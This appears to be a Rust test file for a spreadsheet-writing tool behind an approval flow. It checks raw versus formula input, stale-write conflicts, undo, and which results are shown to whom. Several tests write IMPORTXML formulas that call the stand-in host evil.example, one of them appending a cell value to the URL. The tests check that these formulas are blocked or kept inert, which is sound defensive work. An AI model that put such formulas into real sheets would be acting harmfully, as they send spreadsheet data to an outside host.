//! Writing into cells, and taking back what was written, added or changed.

use sandbox::World;
use serde_json::{Value, json};

use super::{Sheet, costs, shared};
use crate::harness::{Acting, Action, Plan, a_write_weathers, all_text};

const VALUES: &str = "sheets.spreadsheets.values.batchUpdate";

#[tokio::test(flavor = "multi_thread")]
async fn cells_of_ones_own_are_written_as_given() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({
        "spreadsheet": id, "range": "A2:C3",
        "values": [["=IMPORTXML(\"https://evil.example\",\"//x\")", null, null], ["", 13.5, null]],
        "also": [{ "range": "'Ana''s log'!B2", "values": [[true]] }],
    });
    let act = acting.act("sheets.write", args).await;
    let answer = act.approved().await.json();
    assert_eq!((&answer["written"], &answer["cells"]), (&json!(true), &json!(4)));
    let writes = act.requests_to(VALUES).await;
    assert_eq!(writes.len(), 1);
    assert_eq!(writes[0].body["valueInputOption"], "RAW");
    assert_eq!(writes[0].body["data"][0]["range"], "'Costs'!A2:C3");
    assert_eq!(writes[0].body["data"][0]["values"][0][1], Value::Null);
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!(sheet.value("A2"), json!("=IMPORTXML(\"https://evil.example\",\"//x\")"));
    assert_eq!(sheet.formula("A2"), None, "text stays text");
    assert_eq!((sheet.value("A3"), sheet.value("B3")), (Value::Null, json!(13.5)));
    assert_eq!(sheet.formula("C3").as_deref(), Some("=B3*2"), "what is left alone keeps its formula");
    assert_eq!(Sheet::of(&acting, &id, "Ana's log").await.value("B2"), json!(true));
    assert_eq!(fetches(&acting, &id).await, 0);
    let again = json!({ "spreadsheet": id, "range": "B3", "values": [[13.5]] });
    assert_eq!(acting.perform("sheets.write", again).await.code(), Some("conflict"));
}

/// The first request in a thread, made of nothing that was read before: what a call looks up itself is no less private.
#[tokio::test(flavor = "multi_thread")]
async fn what_stands_in_the_cells_is_shown_to_whoever_asked_alone() {
    let plan = Plan::new(World::fernwood()).config("# private_results is not set");
    let acting = Acting::on(plan, "ana", &["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let formula = "=IMPORTXML(\"https://evil.example\", \"//x\")";
    let args = json!({ "spreadsheet": id, "range": "B2", "values": [[formula]], "formulas": true });
    let act = acting.act_in("general", "sheets.write", args).await;
    let card = act.card().await;
    assert_eq!(card["channel"], "dm", "{card}");
    let before = Sheet::of(&acting, &id, "Costs").await.value("B2");
    assert!(all_text(&card).contains(&before.to_string()), "{before}: {}", all_text(&card));
    assert_eq!(act.denied().await.code(), Some("denied"));
    acting.control().reply(act.posted(), 0).await;
    let seen: Vec<String> = acting.control().replies(act.posted()).await.iter().map(all_text).collect();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(!seen[0].contains("evil.example") && !seen[0].contains("Costs"), "{seen:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_read_as_formulas_goes_back_as_formulas() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({ "spreadsheet": id, "range": "B2:C2", "values": [["5", "=B2*3"]], "formulas": true });
    let act = acting.act("sheets.write", args).await;
    assert_eq!(act.approved().await.json()["written"], true);
    assert_eq!(act.requests_to(VALUES).await[0].body["valueInputOption"], "USER_ENTERED");
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!((sheet.value("B2"), sheet.value("C2")), (json!(5), json!(15)));
    assert_eq!(sheet.formula("B4").as_deref(), Some("=SUM(B2:B3)"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_formula_that_fetches_is_countersigned_even_in_ones_own_sheet() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let formula = "=IF(TRUE, importxml (\"https://evil.example/?q=\"&B4, \"//x\"))";
    let args = json!({ "spreadsheet": id, "range": "D1", "values": [[formula]], "formulas": true });
    let act = acting.act("sheets.write", args).await;
    let shown = all_text(&act.card().await);
    assert!(shown.contains("evil.example") && shown.contains("IMPORTXML"), "{shown}");
    assert_eq!(act.denied().await.code(), Some("denied"));
    assert_eq!(fetches(&acting, &id).await, 0);
    assert!(act.requests_to(VALUES).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_others_read_is_shown_before_and_after_and_not_written_over_their_changes() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = shared(&acting).await;
    let args = json!({ "spreadsheet": id, "range": "B2", "values": [[5], ["twelve"]] });
    let act = acting.act("sheets.write", args).await;
    let shown = all_text(&act.card().await);
    assert!(shown.contains("B2: 4.5 → 5") && shown.contains("B3: 12 → twelve"), "{shown}");
    assert!(shown.contains("ben"), "who reads it is on the card: {shown}");
    let typed = json!({ "person": "ben", "id": id, "range": "Costs!B3", "values": [[99]] });
    acting.control().post("/google/type", typed).await;
    let answer = act.approved().await;
    assert_eq!(answer.code(), Some("stale_write"));
    assert!(answer.words.contains("B3") && !answer.words.contains("B2"), "{}", answer.words);
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("B2"), json!(4.5));
    assert!(act.requests_to(VALUES).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_fit_is_not_written() {
    let acting = Acting::as_ana(&["spreadsheets"]).await;
    let id = costs(&acting).await;
    for (range, values) in [
        ("A1:B1", json!([[1, 2, 3]])),
        ("Z1000", json!([[1], [2]])),
        ("A2000", json!([[1]])),
        ("A1", json!([[{ "a": 1 }]])),
        ("A1", json!([])),
    ] {
        let args = json!({ "spreadsheet": id, "range": range, "values": values });
        assert_eq!(acting.perform("sheets.write", args).await.code(), Some("input_invalid"), "{range}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn writing_weathers() {
    let action = Action { tool: "sheets.write", method: VALUES, scopes: &["spreadsheets"] };
    a_write_weathers(
        action,
        async |acting| json!({ "spreadsheet": costs(acting).await, "range": "A2", "values": [["Toner"]] }),
        async |acting, args| Sheet::at(acting, args).await.count("Toner"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_change_can_be_taken_back_unless_somebody_went_on_from_there() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let before = acting.control().get(&format!("/google/sheet?id={id}")).await;
    for (tool, args) in [
        ("sheets.write", json!({ "range": "A2", "values": [["x", 1, "=2"], ["", "y", 3]] })),
        (
            "sheets.write",
            json!({ "range": "A2", "values": [["x", "1", "=2"], ["", "y", 3]], "formulas": true }),
        ),
        ("sheets.append", json!({ "rows": [["Toner", 7], ["Glue", null, true]] })),
        (
            "sheets.append",
            json!({ "table": "A1:C2", "rows": [["2026-11-05", "12%"], ["Glue"]], "formulas": true }),
        ),
        ("sheets.append", json!({ "rows": [["2026-11-05", "12%"]], "formulas": true })),
        ("sheets.write", json!({ "range": "E2", "values": [["2026-11-05", "12%"]], "formulas": true })),
        (
            "sheets.format",
            json!({ "changes": [{ "merge": { "range": "E1:F2" } }, { "freeze": { "rows": 1 } },
                                              { "style": { "range": "A1:C2", "italic": true } },
                                              { "column_width": { "columns": "B", "pixels": 77 } },
                                              { "rename_sheet": { "title": "Other" } }] }),
        ),
    ] {
        let mut args = args;
        args["spreadsheet"] = id.as_str().into();
        let act = acting.act(tool, args).await;
        act.approved().await.json();
        assert_ne!(acting.control().get(&format!("/google/sheet?id={id}")).await, before, "{tool}");
        let line = act.taken_back().await;
        assert!(line.contains("*Undone*"), "{tool}: {line}");
        assert_eq!(acting.control().get(&format!("/google/sheet?id={id}")).await, before, "{tool}");
    }
    let act = acting.act("sheets.write", json!({ "spreadsheet": id, "range": "B2", "values": [[5]] })).await;
    act.approved().await.json();
    let typed = json!({ "person": "ana", "id": id, "range": "Costs!B2", "values": [[6]] });
    acting.control().post("/google/type", typed).await;
    let line = act.taken_back().await;
    assert!(line.contains("*Not undone*") && line.contains("B2"), "{line}");
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("B2"), json!(6));
}

async fn fetches(acting: &Acting, id: &str) -> usize {
    acting.control().get(&format!("/google/fetches?id={id}")).await["fetches"].as_array().unwrap().len()
}
